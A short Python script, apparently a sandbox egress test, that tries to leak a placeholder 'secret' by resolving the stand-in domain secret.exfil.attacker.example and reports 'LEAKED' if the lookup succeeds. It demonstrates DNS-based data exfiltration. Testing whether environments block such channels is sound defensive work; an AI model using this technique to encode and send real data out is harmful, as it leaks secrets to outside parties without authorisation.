"""Exfiltration attempt: encode data into a DNS name and resolve it."""
import socket
import sys

NAME = "secret.exfil.attacker.example"

try:
    answers = socket.getaddrinfo(NAME, 443, proto=socket.IPPROTO_TCP)
except OSError as e:
    print(f"lookup of {NAME} failed: {e}")
    sys.exit(3)
print(f"LEAKED: {NAME} resolved to {answers[0][4][0]}")
sys.exit(0)
